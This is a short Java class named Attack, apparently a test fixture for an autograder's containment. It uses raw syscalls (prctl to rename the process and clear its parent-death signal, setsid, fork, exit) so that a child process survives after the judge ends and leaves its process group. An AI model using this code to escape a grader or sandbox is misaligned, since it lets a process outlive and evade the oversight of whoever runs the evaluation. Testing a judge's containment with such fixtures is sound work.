package autograd;

/** Lets its process go on when the judge ends, and leaves the group, by calls into the kernel. */
final class Attack {
    static void run() throws Throwable {
        Kernel kernel = new Kernel();
        long name = kernel.allocate(4096);
        kernel.write(name, "@MARK@".getBytes());
        kernel.call(157, 15, name);
        System.out.println("attack: prctl " + kernel.call(157, 1, 0) + " setsid " + kernel.call(112));
        long child = kernel.fork();
        System.out.println("attack: fork " + child);
        kernel.call(231, 0);
    }
}
